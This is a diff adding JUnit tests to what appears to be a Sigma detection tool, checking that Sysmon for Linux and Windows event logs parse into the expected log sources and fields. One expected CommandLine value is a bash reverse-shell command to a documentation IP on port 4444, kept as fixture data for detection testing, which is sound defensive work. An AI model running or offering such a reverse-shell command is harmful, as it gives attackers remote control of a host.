@@ -90,4 +90,35 @@ class SigmaContractTest {
         assertEquals("process_tampering", e.logSource().category());
         assertEquals("Image is replaced", data(e, "Type"));
     }
+
+    @Test
+    void sysmonForLinuxOverSyslogAndLogAnalytics() throws IOException {
+        Event e = parse("xml.log", 3);
+        assertEquals(LogSource.of("linux", "sysmon", "process_creation"), e.logSource());
+        assertEquals("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", data(e, "CommandLine"));
+        assertEquals("www-data", data(e, "ParentUser"));
+        assertEquals("/usr/bin/bash", e.getText(Fields.PROCESS_EXECUTABLE));
+        assertEquals("www-data", e.getText(Fields.USER_NAME));
+        assertEquals("33", e.getText(WinFields.PROCESS_USER_ID));
+        assertEquals("sysmon_linux.log", e.getText(Fields.EVENT_DATASET));
+        assertEquals("web01", e.getText(Fields.HOST_NAME));
+        Event net = parse("xml.log", 4);
+        assertEquals(LogSource.of("linux", "sysmon", "network_connection"), net.logSource());
+        assertEquals("true", data(net, "Initiated"));
+        Event row = parse("otrf_sysmon_linux.log", 3);
+        assertEquals(LogSource.of("linux", "sysmon", "process_creation"), row.logSource());
+        assertEquals("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", data(row, "ParentImage"));
+        assertTrue(row.tags().contains("truncated"), row.tags().toString());
+    }
+
+    @Test
+    void windowsEventXml() throws IOException {
+        Event e = parse("xml.log", 1);
+        assertEquals(LogSource.of("windows", "sysmon", "process_creation"), e.logSource());
+        assertEquals("C:\\Windows\\System32\\cmd.exe", data(e, "ParentImage"));
+        Event forwarded = parse("xml.log", 8);
+        assertEquals(LogSource.of("windows", "security", null), forwarded.logSource());
+        assertEquals("administrator", data(forwarded, "TargetUserName"));
+        assertEquals("failure", forwarded.getText(Fields.EVENT_OUTCOME));
+    }
 }
